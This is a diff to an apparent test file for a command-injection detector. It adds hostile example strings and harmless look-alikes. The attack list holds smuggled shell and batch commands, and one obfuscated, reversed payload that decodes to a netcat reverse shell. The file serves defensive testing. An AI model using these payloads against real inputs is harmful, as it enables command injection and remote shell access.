@@ -63,6 +63,9 @@ const attacks: [string, string][] = [
   ["here-string into an interpreter after a separator", ";irb<<<1+2"],
   ["quote-split interpreter with a version", '""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""'],
   ["quoted letters glued to a command", "'i'p a"],
+  ["process substitution as the value", ">(tee log)"],
+  ["batch if on a parameter, before its block", 'if not %1 == "" ('],
+  ["batch if comparison then a command", "if foo==bar echo x"],
   ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
 ];
 
@@ -95,6 +98,8 @@ const benign: [string, string][] = [
   ["shell substitution in connection-string docs", "Connect with postgres://$(whoami)@localhost/my_database to use your login name"],
   ["bash docs on parameter expansion", "${parameter%%word} Remove matching suffix pattern. The word is expanded to produce a pattern just as in pathname expansion, and matched against the expanded value of parameter."],
   ["analytics cookie", "GS1.1.1764658893.1.1.1764658893.60.0.0$o1$g1$t1764658893$j60$l0$h0"],
+  ["a note ending in a comparison (no batch syntax, no command)", "if foo=="],
+  ["an arrow in text", "input >(filtered) output"],
   ["user agent of a text browser", "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"],
 ];
 
